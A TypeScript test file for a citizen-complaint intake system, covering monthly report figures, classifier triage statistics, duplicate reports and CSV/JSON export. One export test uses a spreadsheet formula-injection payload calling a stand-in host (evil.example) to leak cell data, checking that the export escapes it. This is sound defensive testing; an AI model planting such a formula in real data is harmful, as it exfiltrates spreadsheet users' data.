import { afterEach, describe, expect, it } from 'vitest';
import { eq, like } from 'drizzle-orm';
import { closeDb, openDb, type Db } from '../../core/db/client.ts';
import { outbox } from '../../core/db/schema.ts';
import { deliverOutboxMail } from '../../core/forward.ts';
import { recordInbound } from '../../core/intake.ts';
import { ingestId, inboundMessageSchema } from '../../core/message.ts';
import { createUnderstander } from '../../core/understanding/index.ts';
import { officerClassify, officerCommand } from '../../core/lifecycle/service.ts';
import { loadDivisions } from '../../scripts/eval.ts';
import { monthlyReport } from '../../core/report.ts';
import { listCases } from '../../core/repo/cases.repo.ts';
import { testConfig } from '../helpers/config.ts';
import { smsIntake } from '../helpers/intake.ts';

/** A suggestion the shipped model calls a statement, with a complaint probability of about 0.3. */
const SUGGESTION = 'Saran saja, sebaiknya halte di Jalan Solo diberi atap.';

const dbs: Db[] = [];
afterEach(() => { while (dbs.length) closeDb(dbs.pop()!); });

describe('aduan report --month', () => {
  it('counts cases and gives the median time to the citizen\'s acknowledgement', () => {
    const db = openDb(':memory:');
    dbs.push(db);
    const config = testConfig({ divisions: loadDivisions() });
    const understander = createUnderstander(config);
    const texts = ['Lampu jalan di Jl. Kenari mati sudah seminggu, mohon diperbaiki.', 'Sampah di depan pasar Beringharjo tidak diangkut tiga hari.', 'Air PDAM di Tegalrejo mati sejak kemarin, tolong ditangani.'];
    texts.forEach((text, i) => {
      const at = `2026-03-0${i + 1}T08:00:00.000Z`;
      const message = inboundMessageSchema.parse({ connectorId: 'sms-test', channel: 'sms', externalId: `r${i}`, receivedAt: at, sender: { phone: `+62812000000${i}` }, text });
      recordInbound({ db, config, understander, outboundChannels: new Set(['sms-test']), now: () => new Date(at) }, message, ingestId('sms-test', message.externalId));
    });
    // acknowledgements delivered after 30 s, 2.5 min and 10 min; then the third one counts as not delivered
    const acks = db.select().from(outbox).where(like(outbox.id, '%.ack%')).all().sort((a, b) => a.id.localeCompare(b.id));
    expect(acks).toHaveLength(3);
    const delays = [30_000, 150_000, 600_000];
    acks.forEach((a, i) => db.update(outbox).set({ status: 'sent', sentAt: new Date(Date.parse(a.createdAt) + delays[i]!).toISOString() }).where(eq(outbox.id, a.id)).run());
    const report = monthlyReport(db, '2026-03', false);
    expect(report).toMatch(/^cases\s+3$/m);
    expect(report).toMatch(/^channel:sms\s+3$/m);
    expect(report).toMatch(/^median_ack\s+2.5 menit$/m);
    expect(monthlyReport(db, '2026-04', false)).toMatch(/^median_ack\s+-$/m);
    db.update(outbox).set({ sentAt: null, status: 'queued' }).where(eq(outbox.id, acks[2]!.id)).run();
    expect(monthlyReport(db, '2026-03', false)).toMatch(/^median_ack\s+1.5 menit$/m);
  });

  it('shows how the classifier did on the month\'s real messages, as far as people looked', () => {
    const db = openDb(':memory:');
    dbs.push(db);
    const { deps, send: sms, state } = smsIntake(db);
    let i = 0;
    const send = (text: string): string => sms(text, { at: `2026-03-0${++i}T08:00:00.000Z` });
    state.unsure = true;
    const road = 'Jalan Kaliurang km 5 rusak parah dan berlubang besar, mohon segera diperbaiki.';
    officerClassify(deps, send(road), 'complaint', 'sri'); // guess kept
    officerClassify(deps, send('Terima kasih, lampunya sudah menyala lagi.'), 'complaint', 'sri'); // guess changed
    send('Sampah di depan pasar tidak diangkut tiga hari.'); // still waiting
    state.unsure = false;
    const confident = send('Air PDAM di Tegalrejo mati sejak kemarin, tolong ditangani.');
    officerCommand(deps, confident, { kind: 'bukan-aduan', note: '' }, 'sri'); // a confident decision changed later
    officerCommand(deps, send('Pungli di kelurahan saat mengurus KTP.'), { kind: 'alihkan', division: 'komisi-b' }, 'sri');
    const report = monthlyReport(db, '2026-03', false);
    expect(report).toMatch(/^triage\s+3$/m);
    expect(report).toMatch(/^triage_waiting\s+1$/m);
    expect(report).toMatch(/^triage_guess_kept\s+50% \(1\/2\)$/m);
    expect(report).toMatch(/^label_changed_later\s+50% \(1\/2\)$/m);
    expect(report).toMatch(/^rerouted\s+20% \(1\/5\)$/m);
    expect(report).not.toMatch(/^median_triage\s+-$/m);
    expect(report).toMatch(/^audit_guess_kept\s+-$/m);
    // the audit sample: a confident statement a person checked, and found to be a complaint
    const db2 = openDb(':memory:');
    dbs.push(db2);
    const audit = smsIntake(db2, { auditShare: 1 });
    officerClassify(audit.deps, audit.send('Terima kasih, lampunya sudah menyala lagi. Pelayanannya cepat.'), 'complaint', 'sri');
    expect(monthlyReport(db2, '2026-03', false)).toMatch(/^audit_guess_kept\s+0% \(0\/1\)$/m);
    expect(monthlyReport(db2, '2026-03', false)).toMatch(/^maybe_complaint_confirmed\s+-$/m);
    // a statement guess that might be a complaint (classifier.complaintDoubtAbove), which a person then called one
    const db3 = openDb(':memory:');
    dbs.push(db3);
    const doubt = smsIntake(db3);
    officerClassify(doubt.deps, doubt.send(SUGGESTION), 'complaint', 'sri');
    officerClassify(doubt.deps, doubt.send('Pendapat saya, sebaiknya pasar Beringharjo buka sampai malam, terima kasih.'), 'statement', 'sri');
    expect(monthlyReport(db3, '2026-03', false)).toMatch(/^maybe_complaint_confirmed\s+50% \(1\/2\)$/m);
    expect(monthlyReport(db3, '2026-03', false)).toMatch(/^triage:maybe-complaint\s+2$/m);
    expect(report).toMatch(/^triage:unsure\s+3$/m);
  });

  it('counts the copies a person\'s decision reached: settled with it, or following it at intake, each counted once as a decision', async () => {
    const db = openDb(':memory:');
    dbs.push(db);
    const { deps, send } = smsIntake(db);
    const first = send(SUGGESTION);
    send(SUGGESTION); // another sender's copy, waiting in triage with the first
    officerClassify(deps, first, 'complaint', 'sri');
    send(SUGGESTION); // after the decision: follows it
    const report = monthlyReport(db, '2026-03', false);
    expect(report).toMatch(/^settled_as_copy\s+1$/m);
    expect(report).toMatch(/^followed_person_label\s+1$/m);
    expect(report).toMatch(/^result_shared\s+0$/m);
    // both copies joined the decided case (one forward mail, one digest); their 0-minute "forward" is not a forward time
    expect(report).toMatch(/^joined_open_report\s+2$/m);
    expect(report).toMatch(/^median_forward\s+-$/m);
    // the three reports are one problem: once forwarded, one #selesai answers all three
    const sender = { send: async (p: { messageId: string }) => ({ messageId: p.messageId }), verify: async () => {}, close: () => {} };
    for (const o of db.select().from(outbox).where(like(outbox.id, '%.forward')).all()) await deliverOutboxMail(db, sender, o.id);
    officerCommand(deps, first, { kind: 'selesai', result: 'Halte diberi atap bulan depan.' }, 'sri');
    expect(monthlyReport(db, '2026-03', false)).toMatch(/^result_shared\s+2$/m);
    expect(monthlyReport(db, '2026-03', false)).toMatch(/^recurring_unlinked\s+0% \(0\/2\)$/m);
    // staff take one report out of the chain: repeat detection's precision as people saw it
    officerCommand(deps, listCases(db).find((c) => c.relatedTo !== null)!.number, { kind: 'bukan-berulang', note: '' }, 'sri');
    expect(monthlyReport(db, '2026-03', false)).toMatch(/^recurring_unlinked\s+50% \(1\/2\)$/m);
    expect(report).toMatch(/^triage\s+2$/m);
    expect(report).toMatch(/^maybe_complaint_confirmed\s+100% \(1\/1\)$/m);
    expect(report).toMatch(/^triage_waiting\s+0$/m);
  });
});

describe('aduan export', () => {
  it('a citizen text that a spreadsheet would run as a formula is written as text; citizens\' phone numbers are masked', async () => {
    const { chainSetup } = await import('../helpers/chain.ts');
    const { exportCases } = await import('../../core/report.ts');
    const s = chainSetup();
    const a = s.sms('+6281299998888', '=HYPERLINK("http://evil.example/x?"&A1,"Klik") jalan rusak di Jl. Kenari mohon diperbaiki');
    s.sms('+6281299998888', `${a} -2+3 lubangnya makin besar`);
    const csv = exportCases(s.db, undefined, undefined, 'csv');
    expect(csv).toContain(`case,${a},`);
    expect(csv).toContain('"\'=HYPERLINK(""http://evil.example/x?""&A1,""Klik"") jalan rusak');
    expect(csv).not.toMatch(/,=HYPERLINK/);
    expect(csv).not.toContain('6281299998888');
    expect(csv).toContain('citizen:***888');
    const json = exportCases(s.db, undefined, undefined, 'json');
    expect(json).not.toContain('6281299998888');
  });
});

describe('report and export of a long history', () => {
  it('more cases than SQLite takes bound values (32,766) are reported and exported, each with its own events', async () => {
    const { addEvent, insertCase } = await import('../../core/repo/cases.repo.ts');
    const { exportCases } = await import('../../core/report.ts');
    const db = openDb(':memory:');
    const N = 33_000;
    db.transaction((tx) => {
      for (let i = 0; i < N; i++) {
        const at = new Date(Date.parse('2026-03-02T00:00:00Z') + i * 1000).toISOString();
        const k = insertCase(tx, { number: `ADU-2026-${String(i + 1).padStart(6, '0')}`, status: 'spam', kind: 'spam', divisionId: 'humas', contactId: null, channel: 'sms', connectorId: 'sms', subject: null, summary: `pesan ${i}`, relatedToCaseId: null, now: at } as Parameters<typeof insertCase>[1]);
        addEvent(tx, { caseId: k.id, at, actorType: 'system', actor: 'intake', type: 'received', toStatus: 'spam', text: `diterima ${i}` });
      }
    });
    const csv = exportCases(db, undefined, undefined, 'csv');
    expect(csv.split('\n').filter((l) => l.startsWith('event,')).length).toBe(N);
    expect(csv).toContain('event,ADU-2026-033000,2026-03-02T09:09:59.000Z,received,system:intake,,,diterima 32999');
    expect(monthlyReport(db, '2026-03', false)).toContain('33000');
    // a figure with no value is "-" in the CSV, not a guarded "'-"
    expect(monthlyReport(db, '2026-03', true)).toMatch(/^median_ack,-$/m);
    closeDb(db);
    // (66,000 rows written and read three times: about 10 s alone, three times that beside other test files)
  }, 120_000);
});

describe('people\'s labels (aduan corpus export)', () => {
  it('one re-route is one label, on the case a person re-routed (not on the reports that followed it); the text is the whole report', async () => {
    const { chainSetup } = await import('../helpers/chain.ts');
    const { humanLabels } = await import('../../core/repo/report.repo.ts');
    const LIGHT = 'Lampu PJU di Jalan Kenari depan SD Negeri Kenari mati sejak seminggu, jalan gelap sekali dan rawan jambret. Mohon segera diperbaiki.';
    const s = chainSetup();
    const a = s.sms('+6281200000001', LIGHT);
    await s.deliverForward(a);
    s.sms('+6281200000002', `${LIGHT} Tolong pak.`);
    s.sms('+6281200000003', `${LIGHT} Segera.`);
    officerCommand(s.deps, a, { kind: 'alihkan', division: 'komisi-a' }, 'petugas.budi');
    expect(humanLabels(s.db).map((l) => [l.number, l.label, l.divisionId])).toEqual([[a, 'complaint', 'komisi-a']]);
    expect(monthlyReport(s.db, '2026-03', false)).toMatch(/^rerouted\s+33% \(1\/3\)$/m);
    // a report in two messages, settled by a person: the label goes with both
    const t = chainSetup();
    const b = t.sms('+6281200000009', 'Malam pak, saya di Jl. Kenari gang 3 RT 05 Jetis');
    t.sms('+6281200000009', 'itu gotnya mampet pak, air meluap ke jalan tiap hujan');
    officerClassify(t.deps, b, 'complaint', 'petugas.sri', 'komisi-c');
    const label = humanLabels(t.db).find((l) => l.number === b)!;
    expect(label.text).toContain('Malam pak, saya di Jl. Kenari gang 3 RT 05 Jetis');
    expect(label.text).toContain('gotnya mampet');
  });
});
